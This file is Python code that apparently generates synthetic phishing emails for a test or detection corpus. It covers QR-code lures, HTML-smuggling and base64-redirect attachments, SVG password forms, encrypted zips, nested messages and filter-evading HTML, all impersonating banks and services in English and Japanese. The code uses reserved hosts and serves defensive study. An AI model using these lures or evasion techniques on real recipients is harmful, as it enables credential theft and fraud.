"""Attack mails whose request stands somewhere else than in plain sight: QR codes, attachments, archives, PDFs, calendars, nested mails, pictures, odd HTML.

Takes: nothing. Gives: mails. Entry: `add`. What is wrapped is as harmless as the rest: reserved hosts, or a line of text.
"""
import base64

from make_samples import B, KV, P, RAW, attach, enc, encrypted_zip, header, leaf, png, text_part, words
from samples import qr, wrap
from samples.attacks import at, attack, safe


def add():
    qr_codes()
    html_files()
    pictures_and_vectors()
    calendars_and_nested()
    archives()
    pdfs()
    odd_html()


def shown(cid, width, alt): return f'<p style="text-align:center"><img src="cid:{cid}" width="{width}" alt="{alt}"></p>'


def qr_codes():
    u = safe("https://mfa-corp-enroll.example/q/7f3a91")
    attack("qr-mfa-inline-en", "en", "-", "mfa_reenrol", "qr_inline,internal_name,no_link", "own IT department: scan the code with the phone to keep multi-factor sign-in; inline PNG, no link in the text",
           "2FA security update: scan before 5 PM", ("Corp Example IT Security", "it-security@staff-notices.test"), [
               P("Hello,"),
               P("authenticator tokens issued before January are retired today. Point the camera of your **phone** at the code below and sign in with your work account to move your token to the new system."),
               RAW(shown("q1@staff", 180, "")),
               P("It takes less than a minute. Staff who have not moved by 5 PM will be locked out of mail and Teams and have to see IT with a photo ID.")],
           hand="ms", colour="#243a5e", logo="IT Security", related=[attach("image001.png", "image/png", qr.png_of(u), inline_cid="q1@staff")], to="taro.yamada@corp.example", footer="Corp Example | confidential", must=["tokens issued before January"])

    u = safe("https://entra-sairoku.example/m/?t=corp&u=dGFybw")
    attack("qr-attached-authenticator-ja", "ja", "microsoft", "mfa_reenrol", "qr_attached,no_link", "ISO-2022-JP plain text, the QR code is an attached PNG file",
           "【Microsoft 365】認証アプリの再設定(QRコード添付)", ("Microsoft 365 管理センター", "mc-notice@entra-sairoku.example"), [
               P("ご利用者様"),
               P("お使いの Microsoft Authenticator の登録は、セキュリティ基準の変更により本日で失効します。"),
               P("添付のQRコードをスマートフォンのカメラで読み取り、表示されたページに会社のメールアドレスとパスワードを入力して、再設定を完了してください。"),
               P("再設定が完了していない場合、明日以降メールの送受信ができません。")],
           cs="ISO-2022-JP", form="plain", attachments=[attach("QRコード.png", "image/png", qr.png_of(u, 5), "ISO-2022-JP")], to="taro.yamada@corp.example", footer="Microsoft 365 管理センター", must=["添付のQRコード"])

    u = safe("https://benefits-handbook.test/s/2027?e=aGFuYWtv")
    doc = wrap.pdf(["Corp Example - Human Resources", "", "Employee Handbook 2027: acknowledgement required", "", "Dear Hanako Sato,", "the revised handbook (leave, remote work, bonus rules) takes effect on 1 January.",
                    "For reasons of confidentiality it can be read on a phone only. Scan the code and", "authenticate with your company e-mail and password.", "", "Due: within 2 business days", ""], image=qr.pixels(qr.code(u), 4))
    attack("qr-pdf-handbook-en", "en", "-", "payroll", "qr_pdf,internal_name,no_link", "PDF with a QR code: handbook to be acknowledged; the mail itself says next to nothing",
           "Hanako Sato: Employee Handbook 2027 - acknowledgement", ("HR Compliance", "compliance@benefits-handbook.test"), [
               P("Please find the document for hanako.sato attached. It is protected, follow the instructions on page 1.")],
           form="plain", cs="US-ASCII", cte="7bit", to="hanako.sato@corp.example.jp", attachments=[attach("Handbook_2027_hanako.sato.pdf", "application/pdf", doc)], must=["page 1"])

    u = safe("https://nencho-shinkoku.example/2026/qr?c=corp")
    doc = wrap.pdf(["コープ・エグザンプル株式会社　総務部", "", "令和８年分　年末調整　電子申告のお願い", "", "下のＱＲコードをスマートフォンで読み取り、社員番号とメールの", "パスワードでログインして、扶養控除等申告書を提出してください。", "", "提出期限：１１月１３日（金）１７時", "期限を過ぎた場合、還付を受けられません。", ""], image=qr.pixels(qr.code(u), 5), cs="Shift_JIS", size=12)
    attack("qr-pdf-nencho-ja", "ja", "-", "payroll", "qr_pdf,internal_name,no_link", "Japanese PDF with a QR code: year-end tax adjustment by phone",
           "年末調整の電子申告について（総務部より）", ("総務部 給与担当", "soumu@nencho-shinkoku.example"), [
               P("社員の皆さん"),
               P("お疲れさまです。総務部です。\n今年の年末調整はペーパーレスとなりました。手順は添付の案内（PDF）のとおりです。スマートフォンからの申告のみ受け付けます。"),
               P("よろしくお願いします。")],
           form="plain", cte="8bit", to="all-staff@corp.example.jp", when=at("2026-11-09 08:50"), attachments=[attach("年末調整のご案内.pdf", "application/pdf", doc, "UTF-8")], must=["スマートフォンからの申告のみ"])

    u = safe("https://teams-vm.example/l/77")
    attack("qr-block-letters-en", "en", "-", "voicemail", "qr_text,no_link", "the QR code is drawn with block characters, so there is no picture to read",
           "Missed call (00:47) - transcript locked", ("Unified Messaging", "um@voice-desk.test"), [
               P("You missed a call from +1 555-0142 (47 seconds). The transcript is locked to your mobile device. Scan to listen, then sign in with your mailbox password:"),
               RAW(f'<pre style="font-family:Consolas,monospace;font-size:10px;line-height:10px;letter-spacing:0">{qr.blocks_of(u)}</pre>', qr.blocks_of(u)),
               P("The recording is erased after 24 hours.")],
           hand="outlook", to="taro.yamada@corp.example", must=["The transcript is locked"])

    u = safe("https://mufg-kakunin.test/app/qr?id=0071")
    attack("qr-colour-bank-ja", "ja", "mufg", "identity_check", "qr_inline,qr_colour", "bank letter with a QR code in the bank's red on a tinted ground; Shift_JIS",
           "【三菱ＵＦＪ銀行】お取引目的等のご確認（ＱＲコードでのお手続き）", ("三菱ＵＦＪ銀行", "otorihiki@mufg-kakunin.test"), [
               P("お客さまの大切なご預金を守るため、お取引目的等のご確認をお願いしております。"),
               P("スマートフォンで次のＱＲコードを読み取り、**インターネットバンキングの契約番号、ログインパスワード、ワンタイムパスワード**をご入力ください。"),
               RAW(shown("mqr", 200, "ＱＲコード")),
               P("１０日以内にお手続きがない場合、ＡＴＭおよび振込のご利用を制限いたします。")],
           cs="Shift_JIS", hand="shop", colour="#d7000f", logo="三菱ＵＦＪ銀行", related=[attach("qr.png", "image/png", qr.png_of(u, 5, 4, (160, 0, 20), (255, 240, 225)), inline_cid="mqr")], to="m.ito@corp.example.jp", footer="株式会社三菱ＵＦＪ銀行", must=["契約番号"])

    u = safe("https://parcel-locker.test/q/118")
    attack("qr-poststamp-dhl-en", "en", "dhl", "delivery", "qr_inline,qr_inverted,image_only", "the whole mail is a picture with a light QR code on dark ground and a short alt text",
           "DHL: scan to release shipment 118", ("DHL On Demand", "ondemand@parcel-locker.test"), form="html", to="user@corp.example",
           html_text='<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>\n<body>\n<center><img src="cid:pl118" alt="Scan with your phone to pay the customs fee and release your DHL shipment"></center>\n</body></html>\n',
           related=[attach("release.png", "image/png", qr.png_of(u, 6, 5, (245, 245, 245), (20, 20, 60), 40), inline_cid="pl118")], must=["release your DHL shipment"])


def html_files():
    attack("smuggle-voicemail-en", "en", "-", "voicemail", "html_attachment,smuggling,no_link", "HTML attachment assembles a file from base64 pieces (the file is one harmless line)",
           "VM from 555-0177 (1 min 12 sec)", ("Voice Portal", "vm@voice-portal.example"), [
               P("New voice message\nFrom: 555-0177\nLength: 1:12\nTo listen, open the attached player in a browser. On the first start you will be asked for your mailbox password.")],
           form="plain", cs="US-ASCII", cte="7bit", to="user@corp.example",
           attachments=[attach("VM_0177_Play.html", "text/html", wrap.smuggle("Player", "Player_Setup.txt", "Loading your message...").encode())], must=["attached player"])

    hop = safe("https://keiri-file.test/seikyu/login")
    htm = wrap.page("請求書", f"<p>ファイルを準備しています。しばらくお待ちください。</p>\n<script>{wrap.hop_script(hop)}</script>", lang="ja")
    attack("htm-redirect-invoice-ja", "ja", "-", "shared_document", "html_attachment,script_redirect", "HTM attachment sends the browser to an address kept in base64; claims to be an invoice of a supplier",
           "【請求書送付】9月分ご請求書の件", ("経理担当 小林", "kobayashi@keiri-file.test"), [
               P("ご担当者様"),
               P("お世話になっております。9月分のご請求書を電子発行いたしましたので、添付ファイルを開いてご確認ください。"),
               P("閲覧の際、貴社メールアドレスとパスワードによる認証画面が表示されますが、改ざん防止のためのものです。"),
               P("お支払い期日は10月30日となっております。期日までのご入金をお願い申し上げます。")],
           cs="UTF-8", form="plain", cte="8bit", to="accounting@corp.example", when=at("2026-10-02 13:11"), attachments=[attach("請求書_202609.htm", "text/html", htm.encode(), "UTF-8")], must=["改ざん防止"])

    form = wrap.sign_in_form(safe("https://swift-advice.example/p.php"), "Protected remittance", "Sign in to decrypt", "Decrypt")
    packed = base64.b64encode(form.encode()).decode()
    outer = wrap.page("SWIFT_MT103.pdf", f'<script>document.write(decodeURIComponent(escape(atob("{packed}"))));</script>')
    attack("html-double-extension-en", "en", "-", "credential_request", "html_attachment,encoded_form,double_extension", "attachment named .pdf.html writes a password form from base64",
           "Payment advice MT103 - ref 20260519/EU", ("Treasury Operations", "treasury@swift-advice.example"), [
               P("Dear Sir/Madam,"),
               P("kindly see the attached payment advice made at the request of our customer. The advice is encrypted; your mailbox password is the key."),
               P("Yours faithfully,\nTreasury Operations")],
           form="plain", cs="US-ASCII", cte="7bit", to="accounting@corp.example", when=at("2026-05-19 16:48"), attachments=[attach("SWIFT_MT103.pdf.html", "text/html", outer.encode())], must=["your mailbox password is the key"])

    form = wrap.sign_in_form(safe("https://adobe-cloud-view.test/xls.php"), "Adobe Acrobat", "ドキュメントを表示するにはサインインしてください。", "サインイン", cs="Shift_JIS", lang="ja", password="メールのパスワード")
    attack("shtml-adobe-ja", "ja", "adobe", "shared_document", "html_attachment", "SHTML attachment in Shift_JIS with a password form in the style of a document viewer",
           "発注書（PO-26-0091）をお送りします", ("購買部 佐々木", "sasaki@adobe-cloud-view.test"), [
               P("いつもお世話になっております。"),
               P("標題の発注書を Adobe Acrobat の保護文書としてお送りします。添付を開き、受信時のメールアドレスでサインインしてご覧ください。"),
               P("納期の回答を本日17時までにお願いいたします。")],
           cs="Shift_JIS", hand="outlook", to="sales@corp.example.jp", attachments=[attach("PO-26-0091.shtml", "text/html", enc(form, "Shift_JIS"))], must=["保護文書"])

    refresh = f'<html><head><meta http-equiv="refresh" content="0;url={safe("https://vault-keeper-restore.test/login?h=1")}"></head><body></body></html>\n'
    attack("html-meta-refresh-keeper-en", "en", "keeper", "vault_backup", "html_attachment,meta_refresh", "attachment without any script or form, only a refresh to the attacker's page",
           "Keeper backup kit for user@corp.example.jp", ("Keeper Backup", "kit@vault-keeper-restore.test"), [
               P("Your vault was selected for the regional move on Sunday. We prepared a backup kit for you."),
               P("Open **KeeperBackupKit.html**, enter the master password and store the file that it gives you. Records changed after Friday cannot be moved without it.")],
           style="div", colour="#ffc700", attachments=[attach("KeeperBackupKit.html", "text/html", refresh.encode())], footer="Keeper Security, Inc.", must=["regional move"])

    form = wrap.sign_in_form(safe("https://smarthr-nyuryoku.example/api"), "従業員情報の更新", "社員番号とパスワードを入力してください。", "ログイン", lang="ja", password="パスワード", extra='<input name="otp" placeholder="確認コード"><br>\n')
    attack("html-smarthr-ja", "ja", "smarthr", "payroll", "html_attachment", "HTML attachment: salary account must be confirmed in the HR system",
           "【SmartHR】給与振込口座の確認が必要です", ("SmartHR", "notify@smarthr-nyuryoku.example"), [
               P("佐藤 花子 さん"),
               P("給与振込口座の名義を銀行に照会したところ、一致しませんでした。10月分の給与を予定どおりお支払いするため、添付の確認フォームから口座情報を登録し直してください。"),
               P("締切：10月19日（月）正午")],
           colour="#00c4cc", logo="SmartHR", to="hanako.sato@corp.example.jp", to_name="佐藤 花子", when=at("2026-10-16 10:40"), attachments=[attach("口座確認フォーム.html", "text/html", form.encode(), "UTF-8")], footer="SmartHR", must=["登録し直して"])


def pictures_and_vectors():
    url = safe("https://vmx-play.test/l?r=dXNlckBjb3JwLmV4YW1wbGUuanA")
    pic = wrap.svg(420, 160, f'<rect width="420" height="160" fill="#f3f2f1"/>\n<text x="30" y="60" font-family="Segoe UI" font-size="20">Loading audio...</text>\n<script type="application/ecmascript"><![CDATA[{wrap.hop_script(url)}]]></script>')
    attack("svg-voicemail-script-en", "en", "-", "voicemail", "svg_attachment,script_redirect,no_link", "SVG attachment with a script that goes to an address kept in base64",
           "New Audio Message - 00:00:38", ("Corp Voicemail", "noreply@vmx-play.test"), [
               P("Caller: WIRELESS CALLER\nDuration: 38 sec\nStatus: unheard"),
               P("Double-click the attached file to play it."),
               P("This message was scanned and found safe.")],
           hand="outlook", to="user@corp.example.jp", attachments=[attach("Audio_Msg_38sec.svg", "image/svg+xml", pic.encode())], must=["unheard"])

    url = safe("https://fukugouki-scan.example/view?d=0612")
    pic = wrap.svg(595, 300, '<rect width="595" height="300" fill="#ffffff"/>\n'
                   f'<a xlink:href="{url}"><rect x="60" y="90" width="260" height="60" rx="4" fill="#0067b8"/><text x="90" y="128" fill="#ffffff" font-size="22">文書を表示する</text></a>\n<text x="60" y="190" font-size="14">表示にはMicrosoft 365のパスワードが必要です</text>')
    attack("svg-scan-link-ja", "ja", "microsoft", "fax_scan", "svg_attachment,svg_link", "SVG attachment with a clickable area, no script; office scanner as pretext",
           "複合機からのスキャン文書（12枚）", ("複合機 4F-02", "scan@fukugouki-scan.example"), [
               P("このメールは複合機（4F-02）から自動送信されています。"),
               P("スキャン枚数：12枚\n形式：SVG\n有効期限：24時間"),
               P("添付ファイルをブラウザーで開いてご確認ください。")],
           form="plain", cte="base64", to="user@corp.example.jp", attachments=[attach("SCAN_0612.svg", "image/svg+xml", pic.encode())], must=["自動送信"])

    url = safe("https://payslip-secure.test/in.php")
    pic = wrap.svg(500, 360, f'<foreignObject width="500" height="360"><body xmlns="http://www.w3.org/1999/xhtml"><h3>Payslip viewer</h3><form method="post" action="{url}"><input name="user" value="hanako.sato@corp.example.jp"/><input type="password" name="pw"/><input type="submit" value="View payslip"/></form></body></foreignObject>')
    attack("svg-payslip-form-en", "en", "-", "payroll", "svg_attachment,svg_form,internal_name", "SVG attachment with a password form inside a foreignObject",
           "Payslip June 2026 - Hanako Sato", ("Payroll Corp Example", "payroll@payslip-secure.test"), [
               P("Hi Hanako, the correction of your June payslip is attached. Your mail password opens it. Please tell us by Wednesday whether the overtime is right, otherwise the correction lapses.")],
           form="plain", cs="US-ASCII", cte="7bit", to="hanako.sato@corp.example.jp", when=at("2026-06-29 09:22"), attachments=[attach("Payslip_June.svg", "image/svg+xml", pic.encode())], must=["overtime"])

    picture = png(580, 400, (0, 0, 0), "appleja")
    attack("image-only-apple-ja", "ja", "apple", "account_suspension", "image_only,alt_text", "one picture, linked; Japanese alt text in Shift_JIS",
           "Apple Account：お支払い情報の確認", ("Apple", "apple@shiharai-kakunin.example"), cs="Shift_JIS", form="html", to="taro.yamada@corp.example",
           html_text='<html lang="ja"><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS"></head>\n<body>\n<a href="https://shiharai-kakunin.example/id"><img src="cid:ap01" width="580"\n'
           ' alt="お客様のお支払い方法に問題があるため、Apple Accountを停止しました。24時間以内にサインインして、カード情報を更新してください。"></a>\n</body></html>\n',
           related=[attach("a.png", "image/png", picture, inline_cid="ap01")], must=["カード情報を更新"])

    picture = png(640, 480, (0, 103, 184), "o365map")
    attack("image-map-microsoft-en", "en", "microsoft", "password_expiry", "image_only,image_map", "a screenshot of a notice with an image map and no alt text; only subject and sender hold words",
           "Microsoft 365: password for user@corp.example.jp expires in 3 hours", ("Microsoft 365", "notice@m365-passkeep.example"), form="html",
           html_text='<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>\n<body>\n<img src="cid:map1" width="640" height="480" usemap="#m" border="0">\n'
           '<map name="m"><area shape="rect" coords="40,300,300,350" href="https://m365-passkeep.example/keep/?u=dXNlckBjb3JwLmV4YW1wbGUuanA="></map>\n</body></html>\n',
           related=[attach("notice.png", "image/png", picture, inline_cid="map1")])

    attack("image-remote-rakuten-ja", "ja", "rakuten", "unusual_payment", "image_only,remote_image,alt_text", "pictures lie on the attacker's server; text only in alt",
           "【楽天市場】注文内容ご確認（自動配信メール）", ("楽天市場", "order@rakuten-chumon.test"), form="html", to="m.ito@corp.example.jp",
           html_text='<html lang="ja"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>\n<body>\n<a href="https://rakuten-chumon.test/cancel?o=2026"><img src="https://rakuten-chumon.test/i/1.jpg" width="600"\n'
           ' alt="ご注文ありがとうございます。ゲーム機 2台 119,960円"></a><br>\n<a href="https://rakuten-chumon.test/cancel?o=2026"><img src="https://rakuten-chumon.test/i/2.jpg" width="600"\n'
           ' alt="このご注文に心当たりのない方は、ログインして注文をキャンセルしてください"></a>\n</body></html>\n', must=["心当たりのない方"])


def calendars_and_nested():
    text = "Annual security review for your account.\nYour Microsoft 365 session ends with this appointment. Re-authenticate before it starts: https://review-m365.example/auth?u=user\nUnreviewed accounts are suspended."
    attack("ics-review-en", "en", "microsoft", "credential_request", "calendar,link_in_calendar", "calendar invitation with the link in its description; the mail text is empty talk",
           "Invitation: Mandatory account review @ Tue 10 Mar 2026 4pm", ("Security Calendar", "calendar@review-m365.example"), [P("You have been invited to the following event: Mandatory account review."), P("See the entry in your calendar.")],
           hand="gmail", when=at("2026-03-09 21:10"), to="user@corp.example.jp",
           calendar=wrap.invite("a77-review@review-m365.example", "20260310T070000Z", "20260310T073000Z", "Mandatory account review", safe(text), ("Security Calendar", "calendar@review-m365.example"), "user@corp.example.jp", "https://review-m365.example/room"))

    text = "Zoomアカウントの認証期限が切れています。会議に参加するには、次のページで会社のメールアドレスとパスワードを入力して再認証してください。\nhttps://zoom-saininsho.test/j/000000"
    cal = wrap.invite("zm-0903@zoom-saininsho.test", "20260903T010000Z", "20260903T020000Z", "【至急】取締役会 臨時ウェブ会議", safe(text), ("高橋 健", "takahashi@zoom-saininsho.test"), "taro.yamada@corp.example", "https://zoom-saininsho.test/j/000000")
    attack("ics-attached-zoom-ja", "ja", "zoom", "credential_request", "ics_attachment,executive_name", "ICS file attached; organiser carries the name of an executive",
           "【至急】取締役会 臨時ウェブ会議のご案内", ("高橋 健", "takahashi@zoom-saininsho.test"), [P("山田さん"), P("本日の臨時会議の案内を添付します。開始10分前までに参加の登録をお願いします。"), P("高橋")],
           form="plain", cte="8bit", to="taro.yamada@corp.example", when=at("2026-09-03 08:32"), attachments=[attach("invite.ics", "text/calendar; charset=UTF-8; method=REQUEST", cal.encode())], must=["参加の登録"])

    def nested(frm, to, subject, date, body, cs):
        return (f"From: {frm}\nTo: {to}\n" + header("Subject", subject, cs) + f"Date: {date}\nMessage-ID: <n{len(body)}.{len(subject)}@{frm.rsplit('@')[-1].strip('>')}>\nMIME-Version: 1.0\n").encode() + text_part(body, cs)

    inner = nested("Dropbox Sign <sign@dbx-sign.example>", "hanako.sato@corp.example.jp", "Signature required: NDA_CorpExample_final.pdf", "Wed, 22 Jul 2026 09:12:44 +0900",
                   safe("Hanako Sato, you have been asked to sign NDA_CorpExample_final.pdf.\n\nReview and sign: https://dbx-sign.example/s/NDA?e=hanako.sato\n\nSign in with the password of your mailbox. The request expires today.\n"), "US-ASCII")
    attack("nested-signature-en", "en", "-", "e_signature", "nested_message,compromised_partner", "a partner's hijacked mailbox forwards the lure as message/rfc822; the outer text is innocent",
           "Fwd: Signature required: NDA_CorpExample_final.pdf", ("Mary Sample", "mary@customer.example.org"), [P("Hi Hanako,"), P("this landed with me by mistake, it is meant for you. Could you take care of it today?"), P("Best\nMary")],
           form="plain", cs="US-ASCII", cte="7bit", auth="own", to="hanako.sato@corp.example.jp", when=at("2026-07-22 09:31"), attachments=[leaf("message/rfc822", inner, "7bit", 'Content-Disposition: attachment; filename="Signature required.eml"\n')])

    sender = " ".join(words("SBI証券", "ISO-2022-JP"))
    inner = nested(f"{sender} <info@sbisec-kakunin.test>", "k.suzuki@corp.example", "【SBI証券】デバイス認証の登録期限のお知らせ", "Tue, 7 Apr 2026 07:55:00 +0900",
                   safe("お客様のお取引口座で、デバイス認証の登録が確認できておりません。\n本日中に登録がない場合、出金および注文の受付を停止いたします。\n\nhttps://sbisec-kakunin.test/ETGate/login\n\nユーザーネーム、ログインパスワード、取引パスワードを\nご用意ください。\n"), "ISO-2022-JP")
    attack("nested-broker-iso2022-ja", "ja", "sbi_sec", "mfa_reenrol", "nested_message", "the lure is the attached mail; the outer one pretends to be a delivery failure, ISO-2022-JP",
           "配信できなかったメールがあります(1通)", ("メール配信システム", "mailer@haishin-system.test"), [P("次のメールは、受信側の設定により配信が保留されました。添付の元メールを開き、内容をご確認ください。"), P("状態: 4.2.0 保留")],
           cs="ISO-2022-JP", form="plain", to="k.suzuki@corp.example", when=at("2026-04-07 08:10"), attachments=[leaf("message/rfc822", inner, "7bit", 'Content-Disposition: attachment; filename="original.eml"\n')])


def archives():
    form = wrap.sign_in_form(safe("https://remit-desk.example/w.php"), "Encrypted remittance", "Confirm that you are user@corp.example.jp", "View remittance")
    attack("zip-html-remittance-en", "en", "-", "credential_request", "archive,html_in_archive", "zip with one .html entry that holds a password form",
           "Remittance advice 4th quarter - ACH batch 0092", ("Accounts Payable", "ap@remit-desk.example"), [P("Good day,"), P("enclosed is the remittance advice for the ACH batch paid this morning. Unzip and open it in your browser; it will ask for your e-mail password, for it is encrypted to you."), P("Accounts Payable")],
           form="plain", cs="US-ASCII", cte="7bit", to="accounting@corp.example", attachments=[attach("Remittance_0092.zip", "application/zip", wrap.plain_zip([("Remittance_0092.html", form.encode())]))], must=["encrypted to you"])

    form = wrap.page("お見積書", f'<script>{wrap.hop_script(safe("https://mitsumori-doc.test/o365/"))}</script>', lang="ja")
    attack("zip-html-quotation-ja", "ja", "-", "shared_document", "archive,html_in_archive,script_redirect", "zip with a picture and an .html entry that leads to a sign-in page",
           "御見積依頼の件（図面添付）", ("株式会社サンプル製作所 調達課", "chotatsu@mitsumori-doc.test"), [
               P("ご担当者様\n初めてご連絡いたします。サンプル製作所 調達課の森と申します。"),
               P("添付の図面につき、お見積りをお願いしたくご連絡いたしました。図面は弊社の閲覧システム（HTML）で保護しておりますので、展開後、メールのアカウントで認証してご覧ください。"),
               P("ご多用のところ恐れ入りますが、11月末日までにご回答をいただけますと幸いです。")],
           form="plain", cte="8bit", to="sales@corp.example.jp", attachments=[attach("図面一式.zip", "application/zip", wrap.plain_zip([("図面一式/図面閲覧.html", form.encode()), ("図面一式/表紙.png", png(80, 60, (90, 90, 90), "zumen"))]), "UTF-8")], must=["メールのアカウントで認証"])

    form = wrap.sign_in_form(safe("https://shinsei-ukeoi.example/k.php"), "文書閲覧", "社内アカウントでログインしてください。", "ログイン", cs="Shift_JIS", lang="ja", password="パスワード")
    attack("encrypted-zip-ja", "ja", "-", "credential_request", "encrypted_zip,password_in_mail", "PPAP as a disguise: encrypted zip, the password stands in the same mail",
           "【ご確認】契約変更のお知らせ(暗号化ファイル)", ("株式会社サンプル物産 営業管理", "eigyo@shinsei-ukeoi.example"), [
               P("平素より大変お世話になっております。"),
               P("契約条件の変更につきまして、添付のとおりご案内申し上げます。セキュリティ確保のため、ファイルを暗号化しております。"),
               P("解凍パスワード: k2026#0714"),
               P("中の文書を開くと社内アカウントの入力を求められますので、ログインのうえ、同意ボタンを押してください。ご同意は7月17日までにお願いいたします。")],
           cs="ISO-2022-JP", form="plain", to="user@corp.example.jp", when=at("2026-07-14 11:27"), attachments=[attach("契約変更.zip", "application/zip", encrypted_zip("契約変更のお知らせ.html", enc(form, "Shift_JIS"), "k2026#0714"), "ISO-2022-JP")], must=["解凍パスワード"])

    form = wrap.sign_in_form(safe("https://court-notice.test/c.php"), "Case file", "Verify your identity to open the case file", "Continue")
    attack("encrypted-zip-court-en", "en", "-", "urgency", "encrypted_zip,password_in_mail", "court summons in an encrypted zip, password in the mail",
           "Notice to appear: case 26-CV-01188", ("District Clerk's Office", "clerk@court-notice.test"), [
               P("You are named as a witness in case 26-CV-01188 (employment dispute). The complaint is attached in encrypted form."),
               P("Archive password: 1188"),
               P("Open the case file and confirm your identity with your e-mail account **within 24 hours**. Failure to appear may be treated as contempt.")],
           style="div", to="hanako.sato@corp.example.jp", footer="Office of the Clerk", attachments=[attach("26-CV-01188.zip", "application/zip", encrypted_zip("case_file.html", form.encode(), "1188"))], must=["Archive password"])


def pdfs():
    url = safe("https://sharefile-statement.example/view/88?e=accounting")
    doc = wrap.pdf(["OneDrive for Business", "", "Statement_of_account_October.pdf", "This file is too large for a preview.", "", "    [ OPEN DOCUMENT ]", "", "Access is limited to accounting@corp.example. Sign in with your e-mail password."], links=[(5, 5, url)], size=14)
    attack("pdf-link-statement-en", "en", "microsoft", "shared_document", "pdf_link,compromised_partner,no_link", "PDF with a clickable area; the mail comes from a partner's hijacked mailbox and has no link",
           "Statement of account - October", ("Mary Sample", "mary@customer.example.org"), [P("Good morning,"), P("please find attached our statement of account for October. Kindly confirm the balance by return, as we close the books tomorrow."), P("Regards\nMary Sample\nAccounts")],
           form="plain", cs="US-ASCII", cte="7bit", auth="own", to="accounting@corp.example", attachments=[attach("Statement_October.pdf", "application/pdf", doc)], must=["close the books"])

    url = safe("https://freee-seikyu.test/invoices/2026-08/login")
    doc = wrap.pdf(["請求書", "", "コープ・エグザンプル株式会社　御中", "", "ご請求金額　￥１６５，０００（税込）", "お支払期限　本日", "", "▼請求書の詳細を表示（メールアドレスとパスワードでログイン）", "", "サンプル運輸株式会社"], links=[(7, 7, url)], cs="Shift_JIS", size=13)
    attack("pdf-link-invoice-ja", "ja", "freee", "payment_due", "pdf_link,no_link", "Japanese PDF invoice with a clickable line; sender poses as an invoicing service",
           "サンプル運輸株式会社様から請求書が届きました", ("freee請求書", "noreply@freee-seikyu.test"), [P("サンプル運輸株式会社様より、請求書が発行されました。添付のPDFをご確認ください。"), KV(("請求番号", "2026-08-114"), ("お支払期限", "本日")), P("お支払いが確認できない場合、取引を停止させていただくことがあります。")],
           colour="#2864f0", logo="freee請求書", to="accounting@corp.example", attachments=[attach("請求書_2026-08-114.pdf", "application/pdf", doc, "UTF-8")], footer="このメールは送信専用です", must=["請求書が発行"])

    doc = wrap.pdf(["NORTON 360 - RENEWAL RECEIPT", "", "Order:    NRT-5580-SAMPLE", "Amount:   USD 399.99 (charged to your bank account today)", "Plan:     3 years, 5 devices", "", "You did not order this? Call our billing floor within 12 hours to cancel:", "", "+1 (202) 555-0119", "", "We will refund the amount while you are on the line."])
    attack("pdf-callback-norton-en", "en", "norton", "call_back", "pdf_text,no_link", "the whole lure is text in a PDF; the mail body is a single line",
           "Receipt NRT-5580 for your order", ("Billing Dept", "receipts@order-desk.test"), [P("Attached. Thank you for your purchase.")],
           form="plain", cs="US-ASCII", cte="7bit", attachments=[attach("NRT-5580.pdf", "application/pdf", doc)])

    url = safe("https://bw-vault-report.example/emergency?c=9")
    doc = wrap.pdf(["Bitwarden Security Report", "", "Vault of: user@corp.example.jp", "Exposed passwords: 17", "Weak passwords: 31", "", "Unlock the full report with your master password"], links=[(6, 6, url)], size=13)
    attack("pdf-vault-report-en", "en", "bitwarden", "master_password", "pdf_link", "PDF report about exposed passwords, opens with the master password",
           "Your monthly vault health report", ("Bitwarden Reports", "reports@bw-vault-report.example"), [P("Hi,"), P("your vault health dropped to **critical**. 17 of your passwords are circulating. The report is attached, it can be unlocked for 24 hours.")],
           colour="#175ddc", logo="bitwarden", attachments=[attach("Vault-Health.pdf", "application/pdf", doc)], footer="Bitwarden Inc.", must=["critical"])


def odd_html():
    attack("form-in-mail-en", "en", "-", "password_expiry", "form_in_mail,internal_name", "the password form is in the mail itself",
           "Keep your current password - form below", ("Corp Example IT", "accounts@pw-keep.example"), [
               P("Your password ends today. Fill in the form to keep it for another 90 days. Do not wait for the log-out."),
               RAW('<form action="https://pw-keep.example/post" method="post"><table cellpadding="4"><tr><td>E-mail</td><td><input name="e" value="user@corp.example.jp"></td></tr><tr><td>Current password</td><td><input type="password" name="p"></td></tr>'
                   '<tr><td></td><td><input type="submit" value="Keep password"></td></tr></table></form>'),
               P("IT Department, Corp Example")],
           hand="ms", form="html", colour="#333333", must=["another 90 days"])

    attack("base-href-onelogin-en", "en", "onelogin", "credential_request", "button,base_href", "links are relative, the host stands in a base element",
           "OneLogin: confirm your browser", ("OneLogin", "browser@onelogin-confirm.test"), form="alt",
           text="Your browser was signed out of the Corp Example portal because a setting changed.\n\nConfirm the browser on the page that the HTML part of this message links to. You need your password and one code. Unconfirmed browsers are blocked at noon.\n",
           html_text='<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><base href="https://onelogin-confirm.test/portal/"></head>\n<body style="font-family:Arial">\n'
           '<p>Your browser was signed out of the Corp Example portal because a setting changed.</p>\n<p><a href="confirm?b=1" style="background:#1c1f2a;color:#fff;padding:10px 20px">Confirm browser</a></p>\n<p>You need your password and one code. Unconfirmed browsers are blocked at noon.</p>\n</body></html>\n', must=["Unconfirmed browsers"])

    attack("soft-hyphen-quota-en", "en", "-", "mailbox_quota", "button,soft_hyphen,empty_tags", "key words cut by soft hyphens and empty tags",
           "Mail\u00adbox st\u00adorage 99% used", ("Mail Service", "service@box-extend.example"), [
               RAW('<p>Your mail<b></b>&shy;box st&shy;orage is al&shy;most fu<i></i>ll. In&shy;coming mail will be re&shy;jec<span></span>ted from to&shy;night.</p><p>Ver&shy;ify your pass&shy;wo<u></u>rd to get more sp&shy;ace.</p>',
                   "Your mail\u00adbox st\u00adorage is al\u00admost full. Ver\u00adify your pass\u00adword to get more sp\u00adace."),
               B("Ver\u00adify pass\u00adword", "https://box-extend.example/v?user@corp.example.jp")],
           hand="gmail", footer="Mail Service", must=["Ver\u00adify your pass\u00adword"])

    attack("parts-disagree-en", "en", "-", "held_messages", "button,parts_disagree", "the plain part is a friendly newsletter, the HTML part the lure",
           "4 incoming messages could not be delivered", ("Delivery System", "delivery@queue-mails.test"), text="Hello friends,\n\nthe spring programme of the museum is out. There are guided tours every Sunday\nand a concert in May. See you there!\n",
